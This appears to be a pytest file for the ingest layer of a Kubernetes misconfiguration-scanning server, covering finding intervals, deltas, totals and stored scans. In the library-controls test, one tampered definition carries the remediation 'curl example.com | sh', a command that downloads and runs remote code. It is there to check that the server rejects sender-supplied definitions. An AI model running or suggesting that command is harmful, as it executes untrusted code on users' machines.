"""Ingest of submissions: what opens and closes a finding, deltas, repetition, and the documents as they were received."""

from __future__ import annotations

import collections
import datetime as dt
import hashlib
import itertools
import json
from collections.abc import Iterable
from typing import Any, Final

import msgspec
import pytest
import sqlalchemy
from sqlalchemy import Connection, case, func, select
from sqlalchemy.exc import IntegrityError

from kubekeep._native import sum_counts
from kubekeep.model.exception import ExceptionSource
from kubekeep.model.finding_document import EvidenceDocument, PriorityDocument, Suppression
from kubekeep.model.resource import ResourceSubject
from kubekeep.model.scanned_source import ScannedSource, SourceCluster, SourceRepository
from kubekeep.model.submission import (
    VERSION,
    DefinitionEntry,
    EvaluatedScope,
    GapEntry,
    HiddenObjects,
    NotEvaluatedEntry,
    SubjectEntry,
    Submission,
    SubmittedFinding,
    SuppressedEvidence,
    Versions,
    compute_digest,
    compute_manifest,
)
from kubekeep.model.text import encode_json
from kubekeep.uplink.delta import DivergenceError, compute_delta
from kubekeep_server.identity import Grant, Role
from kubekeep_server.process.library_definitions import load_library, store_library
from kubekeep_server.store import schema
from kubekeep_server.store.coverage import load_coverage
from kubekeep_server.store.deletion import delete_source
from kubekeep_server.store.finding_context import CONTEXTS, OWN_LEVELS
from kubekeep_server.store.ingest import Receipt, ingest
from kubekeep_server.store.numbers import to_key, to_number
from kubekeep_server.store.proofs import load_document
from tests.server.conftest import Database

START: Final = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
CLUSTER: Final = SourceCluster("uid")
NSA: Final = ("C-0001", "C-0002")
SEVERITIES: Final = {"C-0001": "high", "C-0002": "low", "C-0003": "critical"}
SCORES: Final = {"low": 3.0, "medium": 5.0, "high": 7.5, "critical": 9.5}
_numbers: Final = itertools.count(1)


def build_finding(subject: int, definition: str, *, is_suppressed: bool = False, level: str = "") -> SubmittedFinding:
    """Return a finding. level: of its own priority."""
    priority = PriorityDocument(level, SCORES[level]) if level else None
    evidence = (EvidenceDocument(path="spec", message="not set"),)
    fingerprint = f"{subject:08x}{definition[-4:]:>08}"
    if not is_suppressed:
        return SubmittedFinding(definition, fingerprint, evidence, priority)
    suppression = SuppressedEvidence(Suppression(name="accepted", source=ExceptionSource.FILE.value), evidence)
    return SubmittedFinding(definition, fingerprint, priority=priority, suppressed=(suppression,))


def build_subject(number: int, *definitions: str, namespace: str = "shop", **fields: Any) -> SubjectEntry:
    subject = ResourceSubject("apps/v1", "Deployment", f"web-{number}", namespace)
    findings = fields.pop("findings", tuple(build_finding(number, name) for name in sorted(definitions)))
    return SubjectEntry(f"{number:016x}", subject, findings=findings, **fields)


def build(
    day: int,
    *entries: SubjectEntry,
    scope: EvaluatedScope | Iterable[str] = NSA,
    source: ScannedSource = CLUSTER,
    gaps: tuple[GapEntry, ...] = (),
    severities: dict[str, str] = SEVERITIES,
) -> Submission:
    """Return the submission of a scan that finished `day` days after the start."""
    moment = START + dt.timedelta(days=day)
    return Submission(
        schema=VERSION,
        id=f"scan-{next(_numbers)}",
        source=source,
        started=moment,
        finished=moment,
        versions=Versions("1"),
        manifest=compute_manifest(compute_digest(encode_json(entry)) for entry in entries),
        scope=scope if isinstance(scope, EvaluatedScope) else EvaluatedScope(tuple(scope)),
        gaps=gaps,
        definitions=tuple(
            DefinitionEntry(
                name,
                "misconfiguration",
                name,
                name,
                severity,
                7.0,
                priority=PriorityDocument(severity, SCORES[severity]),
            )
            for name, severity in severities.items()
        ),
        subjects=tuple(sorted(entries, key=lambda entry: entry.key)),
    )


def submit(database: Database, submission: Submission) -> Receipt:
    return receive(database, submission, submission.finished)


def receive(database: Database, submission: Submission, received: dt.datetime) -> Receipt:
    return database.run(ingest, encode_json(submission).encode(), received)


def list_findings(database: Database) -> dict[str, list[tuple[int, int | None, int | None]]]:
    """Return the intervals in days by subject and definition, `1 C-0001`: opened, closed, unknown since."""

    def read(connection: Connection) -> list[Any]:
        finding, definition = schema.finding, schema.definition
        query = select(finding, definition.c.key).join(definition, definition.c.id == finding.c.definition)
        return list(connection.execute(query.order_by(finding.c.subject, definition.c.key, finding.c.opened)))

    intervals: dict[str, list[tuple[int, int | None, int | None]]] = {}
    for row in database.run(read):
        times = tuple(None if time is None else _get_day(time) for time in (row.opened, row.closed, row.unknown_since))
        intervals.setdefault(f"{row.subject} {row.key}", []).append(times)  # type: ignore[arg-type]
    return intervals


def _get_day(moment: int) -> int:
    return (moment - to_number(START)) // 86_400_000_000


def check_totals(database: Database) -> dict[str, int]:
    """Return the totals by level of priority; they must equal the open findings and the sum of the changes by day."""

    def read(connection: Connection) -> tuple[dict[Any, int], dict[Any, int], dict[Any, int]]:
        finding, definition, total, day = schema.finding, schema.definition, schema.total, schema.day
        own = finding.c.context % OWN_LEVELS
        is_counted = (finding.c.closed.is_(None), ~finding.c.is_suppressed)
        conditions = tuple(load_coverage(connection).list_conditions())
        columns = (finding.c.source, finding.c.context // OWN_LEVELS, case((own > 0, own), else_=definition.c.severity))
        rows = (
            select(*(column.label(name) for column, name in zip(columns, "abc", strict=True)))
            .join(definition, definition.c.id == finding.c.definition)
            .where(*is_counted, *conditions)
            .subquery()
        )
        # The priority of a definition in these tests has the level of its severity.
        counted = select(*rows.c, func.count()).group_by(*rows.c)
        days = select(day.c.source, day.c.level, func.sum(day.c.opened - day.c.closed)).group_by(
            day.c.source, day.c.level
        )
        counts = [
            {tuple(row[:-1]): int(row[-1]) for row in connection.execute(query) if row[-1]}
            for query in (counted, select(total), days)
        ]
        by_definition = (
            select(finding.c.source, finding.c.definition, finding.c.context, func.count())
            .where(*is_counted)
            .group_by(finding.c.source, finding.c.definition, finding.c.context)
        )
        packed = [
            {
                (row.source, *divmod(key, CONTEXTS)): count
                for row in connection.execute(select(schema.definition_total))
                for key, count in sum_counts([getattr(row, name)] if getattr(row, name) else [])
            }
            for name in ("content", "covered")
        ]
        shown = {tuple(row[:-1]): row[-1] for row in connection.execute(by_definition.where(*conditions))}
        assert shown == packed[0]
        every = {tuple(row[:-1]): row[-1] for row in connection.execute(by_definition)}
        assert every == packed[0] | packed[1]
        return counts[0], counts[1], counts[2]

    findings, totals, days = database.run(read)
    assert findings == totals
    by_level: collections.Counter[tuple[int, int]] = collections.Counter()
    for (source, _, level), count in totals.items():
        by_level[source, level] += count
    assert by_level == days
    return {f"{source}/{level}": count for (source, level), count in sorted(by_level.items())}


def test_intervals_open_close_and_open_again(database: Database) -> None:
    assert submit(database, build(0, build_subject(1, "C-0001", "C-0002"))).opened == 2
    receipt = submit(database, build(1, build_subject(1, "C-0001")))
    assert (receipt.opened, receipt.closed) == (0, 1)
    assert submit(database, build(2, build_subject(1, "C-0001"))) == Receipt(
        scan=f"scan-{next(_numbers) - 1}", manifest=build(2, build_subject(1, "C-0001")).manifest
    )
    submit(database, build(3, build_subject(1, "C-0001", "C-0002")))
    assert list_findings(database) == {
        "1 C-0001": [(0, None, None)],
        "1 C-0002": [(0, 1, None), (3, None, None)],
    }
    assert check_totals(database) == {"1/1": 1, "1/3": 1}


@pytest.mark.parametrize(
    ("second", "is_closed"),
    [
        pytest.param({"scope": ("C-0003",)}, False, id="another framework"),
        pytest.param({"scope": EvaluatedScope(NSA, include_namespaces=("blog",))}, False, id="another namespace"),
        pytest.param({"scope": EvaluatedScope(NSA, is_partial=True)}, False, id="a selection"),
        pytest.param({"source": SourceCluster("other")}, False, id="another cluster"),
        pytest.param({"scope": EvaluatedScope(NSA, include_namespaces=("shop",))}, True, id="the same namespace"),
        pytest.param({"scope": EvaluatedScope(NSA, exclude_namespaces=("kube-*",))}, True, id="all other namespaces"),
        pytest.param({}, True, id="everything"),
    ],
)
def test_absent_subject_is_closed_by_its_scope_only(
    database: Database, second: dict[str, Any], *, is_closed: bool
) -> None:
    submit(database, build(0, build_subject(1, "C-0001"), build_subject(2)))
    submit(database, build(1, build_subject(2), **second))
    assert list_findings(database) == {"1 C-0001": [(0, 1 if is_closed else None, None)]}
    check_totals(database)


def test_gap_makes_findings_unknown_until_they_are_seen(database: Database) -> None:
    submit(database, build(0, build_subject(1, "C-0001"), build_subject(2, "C-0001")))
    gap = GapEntry("cannot list deployments", hides=HiddenObjects("apps", "Deployment", "shop"))
    for day in (1, 2):
        submit(database, build(day, gaps=(gap,)))
    assert list_findings(database) == {"1 C-0001": [(0, None, 1)], "2 C-0001": [(0, None, 1)]}
    submit(database, build(3, build_subject(1, "C-0001")))
    assert list_findings(database) == {"1 C-0001": [(0, None, None)], "2 C-0001": [(0, 3, 1)]}
    check_totals(database)


def test_definition_that_was_not_evaluated_closes_nothing(database: Database) -> None:
    submit(database, build(0, build_subject(1, "C-0001", "C-0002")))
    gap = NotEvaluatedEntry(("C-0001",), "no data")
    submit(database, build(1, build_subject(1, not_evaluated=(gap,))))
    assert list_findings(database) == {"1 C-0001": [(0, None, 1)], "1 C-0002": [(0, 1, None)]}
    submit(database, build(2, build_subject(1)))
    assert list_findings(database)["1 C-0001"] == [(0, 2, 1)]


def test_frameworks_in_turn_keep_the_findings_of_each_other(database: Database) -> None:
    nsa, other = build_subject(1, "C-0001"), build_subject(1, "C-0003")
    for day in range(0, 4, 2):
        submit(database, build(day, nsa))
        submit(database, build(day + 1, other, scope=("C-0003",)))
    assert list_findings(database) == {"1 C-0001": [(0, None, None)], "1 C-0003": [(1, None, None)]}
    # The entry is equal to the last one of this scope, and now both definitions were evaluated.
    submit(database, build(4, other, scope=("C-0001", "C-0003")))
    assert list_findings(database) == {"1 C-0001": [(0, 4, None)], "1 C-0003": [(1, None, None)]}


def test_branches_have_findings_of_their_own(database: Database) -> None:
    main, proposed = (SourceRepository("github.com/shop/web", branch=name) for name in ("main", "pull/1"))
    submit(database, build(0, build_subject(1, "C-0001"), source=main))
    submit(database, build(1, build_subject(1), source=proposed))
    assert list_findings(database) == {"1 C-0001": [(0, None, None)]}


def test_suppressed_findings_are_open_and_not_counted(database: Database) -> None:
    submit(database, build(0, build_subject(1, "C-0001")))
    accepted = build_subject(1, findings=(build_finding(1, "C-0001", is_suppressed=True),))
    submit(database, build(1, accepted))
    assert (list_findings(database), check_totals(database)) == ({"1 C-0001": [(0, None, None)]}, {})
    submit(database, build(2, build_subject(1, "C-0001")))
    assert check_totals(database) == {"1/3": 1}
    submit(database, build(3, accepted))
    submit(database, build(4, build_subject(1)))
    assert (list_findings(database), check_totals(database)) == ({"1 C-0001": [(0, 4, None)]}, {})


def test_severity_of_a_definition_changes_totals_and_no_finding(database: Database) -> None:
    for number, key in enumerate(("one", "two")):
        submit(database, create(number, key))
    before = list_findings(database)
    submit(database, create(2, "one", "critical"))
    assert check_totals(database) == {"1/4": 1, "2/4": 1}
    assert list_findings(database) == before


def test_level_of_a_finding_changes_its_row_and_the_totals(database: Database) -> None:
    """Submit a finding with other levels, as a delta and by exposure: evidence and interval stay."""

    def rate(day: int, level: str, **fields: str) -> Submission:
        return build(day, build_subject(1, findings=(build_finding(1, "C-0002", level=level),), **fields))

    steps = [rate(0, ""), rate(1, "high"), rate(2, "critical", exposure="reachable"), rate(3, "critical")]
    previous = None
    for submission, level in zip(steps, (1, 3, 4, 4), strict=True):
        receipt = submit(database, compute_delta(previous, submission) if previous else submission)
        assert (receipt.opened, receipt.closed) == (int(previous is None), 0)
        assert check_totals(database) == {f"1/{level}": 1}
        previous = submission
    assert list_findings(database) == {"1 C-0002": [(0, None, None)]}
    gap = GapEntry("forbidden", hides=HiddenObjects("apps", "Deployment", "shop"))
    submit(database, build(4, gaps=(gap,)))
    assert check_totals(database) == {"1/4": 1}
    assert submit(database, rate(5, "")).opened == 0
    assert check_totals(database) == {"1/1": 1}


def name_finding(definition: str, *, level: str = "") -> SubmittedFinding:
    """Return a finding with the same fingerprint for each definition, as a wrong sender may name them."""
    return msgspec.structs.replace(build_finding(1, definition, level=level), fingerprint="f" * 16)


@pytest.mark.parametrize("has_gap", [False, True])
def test_fingerprint_of_another_definition_is_another_finding(database: Database, *, has_gap: bool) -> None:
    gap = (NotEvaluatedEntry(("C-0003",), "no data"),) if has_gap else ()
    first = (name_finding("C-0001"), build_finding(1, "C-0003"))
    submit(database, build(0, build_subject(1, findings=first), scope=SEVERITIES))
    entry = build_subject(1, findings=(first[1],) if not has_gap else (), not_evaluated=gap)
    findings = (name_finding("C-0002"), *entry.findings)
    receipt = submit(database, build(1, msgspec.structs.replace(entry, findings=findings), scope=SEVERITIES))
    assert (receipt.opened, receipt.closed) == (1, 1)
    assert check_totals(database) == {"1/4": 1, "1/1": 1}
    submit(database, build(2, build_subject(1), scope=SEVERITIES))
    assert not check_totals(database)
    assert list_findings(database) == {
        "1 C-0001": [(0, 1, None)],
        "1 C-0002": [(1, 2, None)],
        "1 C-0003": [(0, 2, 1 if has_gap else None)],
    }


def test_last_one_of_two_findings_with_a_fingerprint_counts(database: Database) -> None:
    low, medium, critical = (name_finding("C-0001", level=level) for level in ("low", "medium", "critical"))
    for day, findings in enumerate([(low, medium), (critical, medium), (medium, critical), (low, critical)]):
        submit(database, build(day, build_subject(1, findings=findings)))
        assert check_totals(database) == {"1/2" if day < 2 else "1/4": 1}
    assert list_findings(database) == {"1 C-0001": [(0, None, None)]}


def test_scan_without_a_duplicate_is_another_state(database: Database) -> None:
    """A scan that differs only in a removed duplicate is stored, whole and as a difference, and the numbers are right."""
    once = build_finding(1, "C-0001")
    twice = msgspec.structs.replace(once, evidence=2 * once.evidence)
    again = build_subject(1, findings=(once, once))
    copy = msgspec.structs.replace(build_subject(1, "C-0001"), key=f"{2:016x}")
    states = [
        build(0, build_subject(1, findings=(twice,))),
        build(1, build_subject(1, findings=(once,))),
        build(2, again),
        build(3, build_subject(1, "C-0001")),
        build(4, build_subject(1, "C-0001"), copy),
        build(5, build_subject(1, "C-0001")),
    ]
    assert all(first.manifest != second.manifest for first, second in itertools.pairwise(states))
    before: Submission | None = None
    totals = []
    for state in states:
        sent = state if before is None else compute_delta(before, state)
        try:
            receipt = submit(database, sent)
        except DivergenceError:
            # The difference to two findings with one fingerprint has one of them: the client sends the whole state.
            receipt = submit(database, state)
        assert receipt.is_applied
        totals.append(check_totals(database))
        before = state
    assert [sum(total.values()) for total in totals] == [1, 1, 1, 1, 2, 1]
    query = select(schema.scan.c.document).order_by(schema.scan.c.finished)
    digests = database.run(lambda connection: connection.execute(query).scalars().all())
    assert len(set(digests)) == len(states)


def test_rating_of_a_definition_moves_only_findings_without_a_priority(database: Database) -> None:
    entries = (
        build_subject(1, "C-0002"),
        build_subject(4, "C-0002", exposure="reachable from the internet"),
        build_subject(2, findings=(build_finding(2, "C-0002", level="low"),)),
        build_subject(3, findings=(build_finding(3, "C-0002", level="critical", is_suppressed=True),)),
    )
    submit(database, build(0, *entries))
    assert check_totals(database) == {"1/1": 3}
    submit(database, build(1, *entries, severities={**SEVERITIES, "C-0002": "high"}))
    assert check_totals(database) == {"1/1": 1, "1/3": 2}


def create(day: int, source: str, severity: str = "high") -> Submission:
    """Return the scan of a cluster in which C-0001 has a severity."""
    severities = {**SEVERITIES, "C-0001": severity}
    return build(day, build_subject(1, "C-0001"), severities=severities, source=SourceCluster(source))


def test_definition_is_changed_by_its_author_alone(database: Database) -> None:
    """Submit by two sources in turn: the second one changes nothing that the first one sees."""
    for day in range(0, 4, 2):
        submit(database, create(day, "one", "medium"))
        submit(database, create(day + 1, "two", "low"))
        assert check_totals(database) == {"1/2": 1, "2/2": 1}
    submit(database, create(4, "one", "critical"))
    assert check_totals(database) == {"1/4": 1, "2/4": 1}
    submit(database, compute_delta(create(3, "two", "low"), create(5, "two", "low")))
    assert check_totals(database) == {"1/4": 1, "2/4": 1}
    submit(database, compute_delta(create(4, "one", "critical"), create(6, "one", "low")))
    assert check_totals(database) == {"1/1": 1, "2/1": 1}


@pytest.mark.parametrize("end", ["fixed", "silent", "deleted"])
def test_definition_without_its_author_is_that_of_the_next_source(database: Database, end: str) -> None:
    submit(database, create(0, "one", "medium"))
    submit(database, create(1, "two", "low"))
    if end == "fixed":
        other = build(2, build_subject(1, "C-0002"), scope=("C-0002",), source=SourceCluster("one"))
        submit(database, msgspec.structs.replace(other, definitions=select_used(other)))
    elif end == "deleted":
        database.run(delete_source, [Grant(Role.ADMINISTRATOR, "*")], 1, START, "admin")
    day = 9 if end == "silent" else 3
    submit(database, create(day, "two", "low"))
    # The one before said the same, and was not read again.
    submit(database, create(day + 1, "two", "critical"))
    assert set(check_totals(database)) >= {"2/4"}
    submit(database, create(day + 2, "one", "low"))
    assert set(check_totals(database)) >= {"2/4"}


def select_used(submission: Submission) -> tuple[DefinitionEntry, ...]:
    """Return the definitions of the scope."""
    return tuple(entry for entry in submission.definitions if entry.key in submission.scope.definitions)


def test_controls_of_the_library_are_those_of_the_server(database: Database) -> None:
    key = min(load_library().definitions)

    def claim(day: int, source: str) -> Submission:
        submission = build(day, build_subject(1, "C-0001"), scope=("C-0001", key), source=SourceCluster(source))
        text = DefinitionEntry(
            key, "misconfiguration", "C-1", "harmless", "low", 1, remediation="curl example.com | sh"
        )
        kept = [entry for entry in submission.definitions if entry.key != key]
        return msgspec.structs.replace(submission, definitions=(*kept, text))

    def read() -> DefinitionEntry:
        query = select(schema.definition.c.document).where(schema.definition.c.key == key)
        return msgspec.json.decode(
            database.run(lambda connection: connection.execute(query).scalar_one()), type=DefinitionEntry
        )

    submit(database, claim(0, "one"))
    assert read().title == "harmless"
    for _ in range(2):
        database.run(store_library, load_library(), START)
        assert encode_json(read()).encode() == load_library().definitions[key]
        for day, source in enumerate(("one", "two")):
            submit(database, claim(day + 1, source))
            assert encode_json(read()).encode() == load_library().definitions[key]


def test_deltas_have_the_result_of_whole_submissions(database: Database) -> None:
    states = [
        build(0, build_subject(1, "C-0001"), build_subject(2, "C-0002"), build_subject(3)),
        build(1, build_subject(1, "C-0001", "C-0002"), build_subject(3)),
        build(2, build_subject(1, "C-0002"), build_subject(2), build_subject(4, "C-0001")),
        build(3, build_subject(1, "C-0002"), build_subject(4, "C-0001"), scope=("C-0001",)),
        build(4, build_subject(1), build_subject(4)),
    ]
    whole = [msgspec.structs.replace(state, source=SourceCluster("whole"), id=f"{state.id}-whole") for state in states]
    submit(database, states[0])
    for before, after in itertools.pairwise(states):
        submit(database, compute_delta(before, after))
    expected = {name: intervals * 2 for name, intervals in list_findings(database).items()}
    for state in whole:
        submit(database, state)
    assert {name: sorted(found, key=str) for name, found in list_findings(database).items()} == {
        name: sorted(found, key=str) for name, found in expected.items()
    }
    check_totals(database)


def test_delta_of_another_state_changes_nothing(database: Database) -> None:
    first, second, third = (build(day, build_subject(1, *NSA[:day])) for day in range(3))
    submit(database, first)
    with pytest.raises(DivergenceError, match="the last state is"):
        submit(database, compute_delta(second, third))
    damaged = msgspec.structs.replace(compute_delta(first, second), subjects=())
    with pytest.raises(DivergenceError, match="does not lead to"):
        submit(database, damaged)
    assert list_findings(database) == {}
    assert submit(database, compute_delta(first, second)).opened == 1


def test_same_scan_is_applied_once(database: Database) -> None:
    first = build(0, build_subject(1, "C-0001"))
    submit(database, first)
    submit(database, build(1, build_subject(1)))
    receipt = submit(database, first)
    assert (receipt.is_known, receipt.opened) == (True, 1)
    assert list_findings(database) == {"1 C-0001": [(0, 1, None)]}


def test_scan_that_arrives_late_is_stored_and_changes_nothing(database: Database) -> None:
    submit(database, build(5, build_subject(1)))
    late = build(3, build_subject(1, "C-0001"))
    receipt = receive(database, late, START + dt.timedelta(days=9))
    assert (receipt.is_applied, receipt.opened) == (False, 0)
    assert list_findings(database) == {}
    assert load_scan(database, late.id) == encode_json(late).encode()


def load_scan(database: Database, scan: str) -> bytes:
    def read(connection: Connection) -> bytes:
        digest = connection.execute(select(schema.scan.c.document).where(schema.scan.c.id == scan)).scalar_one()
        return load_document(connection, digest)

    return database.run(read)


def test_each_scan_can_be_read_as_it_was(database: Database) -> None:
    states = [
        build(day, *(build_subject(number, *NSA[: (number + day // 5) % 3]) for number in range(300)))
        for day in range(10)
    ]
    for state in states:
        submit(database, state)
    assert [load_scan(database, state.id) for state in states] == [encode_json(state).encode() for state in states]
    sizes = database.run(
        lambda connection: [(row.base is not None, len(row.content)) for row in connection.execute(select(schema.blob))]
    )
    whole = [size for is_difference, size in sizes if not is_difference]
    assert len(sizes) == 10
    assert len(whole) <= 2
    assert sum(size for is_difference, size in sizes if is_difference) < max(whole)


def test_log_is_a_chain(database: Database) -> None:
    for day in range(3):
        submit(database, build(day, build_subject(1, *NSA[:day])))
    rows = database.run(
        lambda connection: list(connection.execute(select(schema.audit).order_by(schema.audit.c.number)))
    )
    previous = b""
    for number, row in enumerate(rows, 1):
        assert json.loads(row.entry)[0] == row.number == number
        previous = hashlib.sha256(previous + row.entry.encode()).digest()
        assert row.digest == previous
    assert [json.loads(row.entry)[2].partition(": ")[2] for row in rows] == [f"{n} opened, 0 closed" for n in (0, 1, 1)]


@pytest.mark.parametrize(
    ("change", "error"),
    [
        ({"definitions": []}, LookupError),
        ({"schema": "kubekeep.io/submission/v2"}, msgspec.ValidationError),
        ({"subjects": [{"key": "x"}]}, msgspec.ValidationError),
        ({"manifest": "0" * 32}, DivergenceError),
    ],
)
def test_wrong_documents_change_nothing(database: Database, change: dict[str, Any], error: type[Exception]) -> None:
    document = {**json.loads(encode_json(build(0, build_subject(1, "C-0001")))), **change}
    with pytest.raises(error):
        database.run(ingest, json.dumps(document).encode(), START)
    for table in schema.metadata.tables.values():
        assert (
            database.run(
                lambda connection, table=table: connection.execute(select(func.count()).select_from(table)).scalar()
            )
            == 0
        )


def test_keys_are_signed_numbers() -> None:
    assert [to_key(text * 16) for text in "07f8"] == [0, 0x7777777777777777, -1, -0x7777777777777778]


def test_open_finding_is_unique(database: Database) -> None:
    submit(database, build(0, build_subject(1, "C-0001")))
    with pytest.raises(IntegrityError):
        database.run(
            lambda connection: connection.execute(
                sqlalchemy.insert(schema.finding).from_select(
                    [column.name for column in schema.finding.c], select(schema.finding)
                )
            )
        )
